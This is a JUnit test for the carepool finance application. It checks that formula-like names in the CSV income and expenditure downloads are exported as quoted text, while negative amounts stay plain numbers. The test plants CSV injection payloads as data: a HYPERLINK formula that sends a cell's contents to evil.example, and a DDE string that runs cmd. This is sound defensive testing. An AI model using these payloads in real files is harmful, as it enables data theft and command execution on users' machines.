package org.carepool;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.StringReader;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 16, finding 5: names that a spreadsheet would run as formulas (beginning with =, +, -, @, a tab
 * or a carriage return) come out of the CSV downloads as text, a single quote in front (OWASP), still
 * readable; amounts, negative ones too, stay plain numbers.
 */
class CsvFormulaTest {
  private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

  @Test
  void formula_like_names_are_exported_as_text_and_negative_amounts_as_numbers(@TempDir Path dir) throws Exception {
    Path lb1 = dir.resolve("lb1");
    Files.createDirectories(lb1);
    try (var files = Files.list(RunningCarepool.resource("finance/lb1"))) {
      for (Path file : files.toList()) {
        Files.copy(file, lb1.resolve(file.getFileName()));
      }
    }
    replace(lb1.resolve("schemes.csv"), "Intermediate care", "\"" + HYPERLINK.replace("\"", "\"\"") + "\"");
    replace(lb1.resolve("schemes.csv"), "Home care", "\"-2+3\"");
    replace(lb1.resolve("organisations.csv"), "Example Council", "@SUM(1+1)*cmd|' /C calc'!A0");
    replace(lb1.resolve("organisations.csv"), "Example Clinical Commissioning Group", "+44 1632 960000");

    try (RunningCarepool app = new RunningCarepool(dir).load(lb1)) {
      HttpResponse<String> csv = app.get("/api/reports/income-expenditure?arrangement=LB1&month=2025-09&format=csv",
          "viewer");
      assertEquals(200, csv.statusCode(), csv.body());
      List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(csv.body().substring(1))).getRecords();
      List<String> cells = records.stream().flatMap(r -> r.stream()).toList();

      assertTrue(cells.contains("'" + HYPERLINK), csv.body());
      assertTrue(cells.contains("'-2+3"), csv.body());
      assertTrue(cells.contains("'@SUM(1+1)*cmd|' /C calc'!A0"), csv.body());
      assertTrue(cells.contains("'+44 1632 960000"), csv.body());
      for (String cell : cells) {
        assertFalse(!cell.isEmpty() && "=+@\t\r".indexOf(cell.charAt(0)) >= 0, "a cell a spreadsheet would run: " + cell);
        if (cell.startsWith("-")) {
          assertTrue(cell.matches("-[0-9]+\\.[0-9]{1,2}"), "only negative amounts and percentages begin with a minus: " + cell);
        }
      }
      assertTrue(cells.stream().anyMatch(c -> c.matches("-[0-9]+\\.[0-9]{2}")),
          "the worked example has a negative amount, left a number: " + csv.body());
    }
  }

  private static void replace(Path file, String from, String to) throws Exception {
    String text = Files.readString(file);
    assertTrue(text.contains(from), file + " holds " + from);
    Files.writeString(file, text.replace(from, to));
  }
}
